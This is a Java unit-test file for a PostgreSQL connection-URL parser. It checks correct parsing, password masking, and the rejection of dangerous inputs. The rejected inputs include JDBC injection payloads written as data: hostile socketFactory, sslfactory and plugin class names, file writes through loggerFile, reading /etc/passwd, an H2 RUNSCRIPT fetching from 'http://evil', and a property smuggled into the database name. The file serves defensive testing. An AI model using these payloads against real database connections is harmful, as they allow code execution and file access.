package io.flowrunner.library.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PostgresAddressTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "postgresql://us%40er:p%3Aw@db.example.com:5433/my%20shop?sslmode=require",
        "postgres://us%40er:p%3Aw@db.example.com:5433/my%20shop?sslmode=require",
        "jdbc:postgresql://db.example.com:5433/my%20shop?user=us@er&password=p:w&sslmode=require"
      })
  void readsUrls(String url) {
    assertThat(PostgresAddress.ofUrl(url, null, null, null))
        .isEqualTo(
            new PostgresAddress(
                "db.example.com", 5433, "my shop", "us@er", "p:w", SslMode.REQUIRE));
  }

  @Test
  void whatTheUrlDoesNotSayIsGivenBesideIt() {
    assertThat(PostgresAddress.ofUrl("postgresql://[::1]/shop", "u", "p", SslMode.DISABLE))
        .isEqualTo(new PostgresAddress("[::1]", 5432, "shop", "u", "p", SslMode.DISABLE));
  }

  /** Each would load a class, write or read a file, or use what is the operator's. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "postgresql://h/d?user=u&socketFactory=java.io.FileOutputStream&socketFactoryArg=/tmp/x",
        "postgresql://h/d?user=u&sslfactory=org.example.Evil",
        "postgresql://h/d?user=u&loggerFile=/tmp/x&loggerLevel=TRACE",
        "postgresql://h/d?user=u&sslrootcert=/etc/passwd",
        "postgresql://h/d?user=u&authenticationPluginClassName=org.example.Evil",
        "postgresql://h/d?user=u&xmlFactoryFactory=org.example.Evil",
        "postgresql://h/d?user=u&service=prod",
        "postgresql://h/d?user=u&SSLMODE=require",
        "postgresql://h1,h2/d?user=u",
        "postgresql:d?user=u",
        "postgresql:///d?user=u",
        "postgresql://h/?user=u",
        "postgresql://h/d",
        "postgresql://u:p@h/d?password=q",
        "postgresql://u@h/d?sslmode=allow",
        "postgresql://u@h:99999/d",
        "postgresql://u@h/d#x",
        "jdbc:derby:/data",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
        "http://u@h/d",
        "postgresql://u:s3cret pass@h/d"
      })
  void refusesWhatItDoesNotKnowWithoutShowingIt(String url) {
    assertThatThrownBy(() -> PostgresAddress.ofUrl(url, null, null, null))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageNotContainingAny("s3cret", "Evil", "/tmp/x");
  }

  @Test
  void partsCannotAddProperties() {
    assertThatThrownBy(() -> new PostgresAddress("h/d?loggerFile=x&a=", 5432, "d", "u", null, null))
        .hasMessage("host must be a name or an address");
    String url =
        new PostgresAddress("h", 5432, "d?loggerFile=x", "u", null, null)
            .toDatabase()
            .identity()
            .get(0);
    assertThat(url).isEqualTo("jdbc:postgresql://h:5432/d%3FloggerFile%3Dx");
  }

  @Test
  void noTextShowsThePassword() {
    PostgresAddress address = new PostgresAddress("h", 5432, "d", "u", "s3cret", null);

    assertThat(address + " " + address.toDatabase()).doesNotContain("s3cret");
    assertThat(address.toDatabase().withoutPassword("no: s3cret!")).isEqualTo("no: ***!");
  }
}
